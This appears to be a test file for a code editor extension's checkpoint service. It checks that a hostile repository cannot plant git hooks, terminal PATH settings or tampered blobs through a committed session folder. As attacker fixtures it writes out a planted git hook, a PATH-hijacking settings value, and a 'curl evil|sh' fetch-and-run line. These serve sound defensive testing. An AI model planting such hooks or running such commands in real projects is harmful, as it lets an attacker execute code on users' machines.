// Issue #24 item 1: a repository cannot plant files through the session folder. The attacker owns a
// repository: its `.vscode/settings.json` points `arbor.sessions.directory` at a folder it commits
// (`.arbor`) holding `checkpoints/journals/*.json` and `checkpoints/blobs/…`, so that the recovery of an
// "interrupted restore" at start writes executable git hooks and editor settings. And when the user
// themselves keeps sessions inside the workspace, a committed blob named after the hash of a file the
// repository ships would be restored in place of the user's own content. Each test plays the attacker
// with real files and a real git repository, then starts Arbor's checkpoint service as the app does.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { CheckpointService } from '../../../src/app/checkpoint-service';
import { DEFAULT_CHECKPOINT_SETTINGS } from '../../../src/app/checkpoint-settings';
import { parseArborSettings } from '../../../src/app/settings';
import { readRawSettings, type ConfigurationLike } from '../../../src/app/settings-read';
import { machineSettingsIn } from '../../../src/app/workspace-settings-file';
import { hashContent } from '../../../src/checkpoints';
import { SessionStore } from '../../../src/session/store';
import { reportFigures } from '../profile';
import { builtin } from '../../unit/tools/builtin';

const root = join(__dirname, '../../..');
const pkg = JSON.parse(readFileSync(join(root, 'package.json'), 'utf8'));
const HOOK = '#!/bin/sh\necho planted-by-the-repository > "$(git rev-parse --git-dir)/../PWNED"\n';
const EVIL_SETTINGS = '{ "terminal.integrated.env.linux": { "PATH": "/tmp/evil" } }\n';
const figures: Record<string, number> = {};

interface Repo {
  base: string;
  ws: string;
  /** Arbor's own storage (globalStorage): the only place journals may come from */
  own: string;
  logs: string[];
}

function repository(t: { after(fn: () => void): void }): Repo {
  const base = realpathSync(mkdtempSync(join(tmpdir(), 'arbor-plant-')));
  t.after(() => rmSync(base, { recursive: true, force: true }));
  const ws = join(base, 'ws');
  mkdirSync(ws);
  execFileSync('git', ['init', '-q', ws]);
  const own = join(base, 'global-storage');
  return { base, ws, own, logs: [] };
}

function put(path: string, content: string | Buffer): void {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, content);
}

/** What the repository commits under `.arbor/checkpoints`: blobs and a journal, as Arbor would write them. */
function plantJournal(ws: string, steps: { key: string; content: string; exec?: boolean }[]): string {
  const store = join(ws, '.arbor', 'checkpoints');
  const journal = {
    version: 1,
    id: '0123456789abcdef',
    fromId: null,
    toId: null,
    steps: steps.map((s) => {
      const content = Buffer.from(s.content);
      const hash = hashContent(content);
      put(join(store, 'blobs', hash.slice(0, 2), hash.slice(2)), content);
      return { key: s.key, from: { kind: 'absent' }, to: { kind: 'file', hash, size: content.length, ...(s.exec ? { exec: true } : {}) } };
    }),
  };
  const file = join(store, 'journals', `${journal.id}.json`);
  put(file, JSON.stringify(journal));
  return file;
}

function service(repo: Repo, sessionsDir: string): CheckpointService {
  return new CheckpointService({
    sessionsDir: () => sessionsDir,
    journalsDir: () => repo.own,
    workspace: { folders: [{ name: 'ws', path: repo.ws }] },
    settings: () => ({ ...DEFAULT_CHECKPOINT_SETTINGS, exclude: [], filesExclude: [] }),
    trusted: () => true,
    log: (message) => repo.logs.push(message),
  });
}

/** A configuration whose workspace layer is the repository's `.vscode/settings.json`, as VS Code merges it. */
function workspaceConfiguration(values: Record<string, unknown>) {
  return (section: string): ConfigurationLike => ({
    inspect: (key) => ({ workspaceValue: values[`${section}.${key}`] }),
    get: (key) => values[`${section}.${key}`],
  });
}

test("a repository's .vscode/settings.json sets neither the sessions folder nor silent restores", (t) => {
  const repo = repository(t);
  put(join(repo.ws, '.vscode', 'settings.json'), JSON.stringify({ 'arbor.sessions.directory': '.arbor', 'arbor.checkpoints.restore': 'always' }));
  const values = JSON.parse(readFileSync(join(repo.ws, '.vscode', 'settings.json'), 'utf8')) as Record<string, unknown>;
  const ignored: string[] = [];
  const { settings } = parseArborSettings(readRawSettings(workspaceConfiguration(values), (key) => ignored.push(key)));
  assert.equal(settings.sessionsDirectory, '', 'the repository does not choose where sessions (and their checkpoints) live');
  assert.equal(settings.checkpoints.restore, 'ask', 'the repository does not make restores silent');
  assert.deepEqual(ignored.sort(), ['arbor.checkpoints.restore', 'arbor.sessions.directory'], 'both are named, so the user is warned');
  // VS Code drops these values from the workspace layer silently; the host reads the file to warn once.
  const commented = '// committed by the repository\n{\n  /* where sessions live */ "arbor.sessions.directory": ".arbor",\n  "arbor": { "checkpoints": { "restore": "always", }, },\n}\n';
  assert.deepEqual(machineSettingsIn(commented).sort(), ['arbor.checkpoints.restore', 'arbor.sessions.directory']);
  assert.deepEqual(machineSettingsIn(JSON.stringify({ settings: { 'arbor.sessions.directory': '.arbor' } }), 'settings'), ['arbor.sessions.directory'], 'a .code-workspace file too');
  const sections = Array.isArray(pkg.contributes.configuration) ? pkg.contributes.configuration : [pkg.contributes.configuration];
  const properties = Object.assign({}, ...sections.map((s: { properties: object }) => s.properties)) as Record<string, { scope?: string }>;
  const restricted: string[] = pkg.capabilities.untrustedWorkspaces.restrictedConfigurations;
  for (const key of ['arbor.sessions.directory', 'arbor.checkpoints.restore']) {
    assert.ok(['machine', 'application'].includes(properties[key]?.scope ?? ''), `${key} is user-only in package.json (scope ${properties[key]?.scope})`);
    assert.ok(restricted.includes(key), `${key} is restricted in untrusted workspaces`);
  }
});

test('journals committed in a sessions folder inside the workspace are never replayed', async (t) => {
  const repo = repository(t);
  put(join(repo.ws, '.vscode', 'settings.json'), '{}\n');
  put(join(repo.ws, 'README.md'), 'hello\n');
  const journal = plantJournal(repo.ws, [
    { key: 'ws/.git/hooks/post-checkout', content: HOOK, exec: true },
    { key: 'ws/.git/hooks/pre-commit', content: HOOK, exec: true },
    { key: 'ws/.vscode/settings.json', content: EVIL_SETTINGS },
    { key: 'ws/README.md', content: 'defaced\n' },
  ]);
  // Even with the user's own setting pointing at `.arbor` (it is now user-only), the folder is the repository's.
  const checkpoints = await service(repo, join(repo.ws, '.arbor')).ready();
  assert.ok(checkpoints, 'checkpoints opened');
  assert.equal(existsSync(join(repo.ws, '.git', 'hooks', 'post-checkout')), false, 'no post-checkout hook was planted');
  assert.equal(existsSync(join(repo.ws, '.git', 'hooks', 'pre-commit')), false, 'no pre-commit hook was planted');
  assert.equal(readFileSync(join(repo.ws, '.vscode', 'settings.json'), 'utf8'), '{}\n');
  assert.equal(readFileSync(join(repo.ws, 'README.md'), 'utf8'), 'hello\n', 'not even an ordinary file: the journal is not ours');
  assert.ok(existsSync(journal), 'the planted journal is left where it is (it is not ours to delete)');
  execFileSync('git', ['-C', repo.ws, 'checkout', '-q', '-b', 'other']);
  assert.equal(existsSync(join(repo.ws, 'PWNED')), false, 'the next git checkout runs nothing');
  figures.plantedJournalsReplayed = 0;
});

test("a journal in Arbor's own storage is finished at start, except its steps on protected paths", async (t) => {
  const repo = repository(t);
  put(join(repo.ws, 'src', 'a.txt'), 'a before\n');
  const sessions = join(repo.base, 'sessions');
  const cut = service(repo, sessions);
  const cp = await cut.ready();
  assert.ok(cp);
  // A restore of ours was cut after its journal was written: one ordinary file, one protected one.
  const blob = async (text: string) => ({ kind: 'file' as const, hash: await cp.blobs.put(Buffer.from(text)), size: Buffer.byteLength(text) });
  const before = await blob('a before\n');
  const steps = [
    { key: 'ws/src/a.txt', from: before, to: await blob('a after\n') },
    { key: 'ws/.git/hooks/pre-commit', from: { kind: 'absent' }, to: { ...(await blob(HOOK)), exec: true } },
  ];
  cut.close();
  // Where this installation keeps the journals of this store (its own storage, not the sessions folder).
  const stateDir = (cp as { stateDir?: string }).stateDir;
  assert.ok(stateDir?.startsWith(repo.own), `journals live in Arbor's own storage (${stateDir})`);
  put(join(stateDir!, 'journals', '00000000000000ab.json'), JSON.stringify({ version: 1, id: '00000000000000ab', fromId: null, toId: null, steps }));
  await service(repo, sessions).ready();
  assert.equal(readFileSync(join(repo.ws, 'src', 'a.txt'), 'utf8'), 'a after\n', 'the interrupted restore of an ordinary file is finished');
  assert.equal(existsSync(join(repo.ws, '.git', 'hooks', 'pre-commit')), false, 'recovery never writes a protected path');
  assert.ok(repo.logs.some((line) => line.includes('.git/hooks/pre-commit')), `the log names the protected path left alone: ${repo.logs.join(' | ')}`);
});

test('a blob a repository commits under the hash of its own file is verified before a restore uses it', async (t) => {
  const repo = repository(t);
  const original = 'module.exports = 1;\n';
  put(join(repo.ws, 'app.js'), original);
  // The repository knows the hash of the app.js it ships, and commits an attacker's content under it.
  const hash = hashContent(Buffer.from(original));
  put(join(repo.ws, '.arbor', 'checkpoints', 'blobs', hash.slice(0, 2), hash.slice(2)), 'require("child_process").exec("curl evil|sh");\n');
  const sessionsDir = join(repo.ws, '.arbor');
  const checkpoints = service(repo, sessionsDir);
  const cp = await checkpoints.ready();
  assert.ok(cp);
  const store = await SessionStore.create({ dir: sessionsDir, cwd: repo.ws });
  const start = await store.appendMessage({ role: 'user', content: 'change app.js', timestamp: 1 });
  // An agent turn edits app.js: the recorder captures its content before and after.
  await cp.recorder.beforeTool(builtin('write'), { path: 'app.js' });
  writeFileSync(join(repo.ws, 'app.js'), 'module.exports = 2;\n');
  await cp.recorder.afterTool(builtin('write'), { path: 'app.js' });
  await cp.recorder.finishTurn((type, data) => store.appendCustomEntry(type, data));
  const outcome = await checkpoints.restoreBetween(store, store.getLeafId(), start.id, new Set());
  assert.equal(outcome.kind, 'restored', JSON.stringify(outcome));
  assert.equal(readFileSync(join(repo.ws, 'app.js'), 'utf8'), original, "the user's own content comes back, not the repository's blob");
  figures.unverifiedBlobsRestored = 0;
  reportFigures('attacks-session-folder', figures);
});
